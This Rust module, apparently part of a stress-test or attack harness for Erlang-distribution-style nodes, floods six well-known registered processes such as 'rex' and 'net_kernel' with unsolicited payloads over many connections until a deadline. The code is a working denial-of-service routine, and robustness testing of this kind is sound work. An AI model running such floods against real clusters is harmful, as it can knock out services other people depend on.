//! Messages to the processes of every node, as many as fit.

use std::time::Instant;

use peerl_node::Term;

use super::Attack;
use super::attacker::{Written, head};
use super::fragments::to_name;

/// Processes of a worker that anyone can send to.
const NAMES: [&str; 6] = ["rex", "net_kernel", "user", "logger", "pg", "global_name_server"];

/// Messages of so many bytes that nobody has asked for, with ticks between them.
pub fn messages(size: usize, connections: usize) -> Attack {
    let name = format!("messages of {size} bytes to all names, {connections} connections");
    Attack::together(name, connections, move |attacker, end| {
        let payload = Term::tuple([Term::atom("garbage"), Term::binary(vec![7; size])]).encode();
        let mut round = Vec::new();
        let mut count = 0;
        while round.len() < 256 << 10 {
            for name in NAMES {
                round.extend_from_slice(&head(&to_name(attacker, 1, name), payload.len() - 1));
                round.extend_from_slice(&payload[1..]);
                count += 1;
            }
            // A tick.
            round.extend_from_slice(&[0; 4]);
        }
        while Instant::now() < end && attacker.write(&[&round], end) == Written::All {
            attacker.sent += count;
        }
        attacker.wait(end);
    })
}
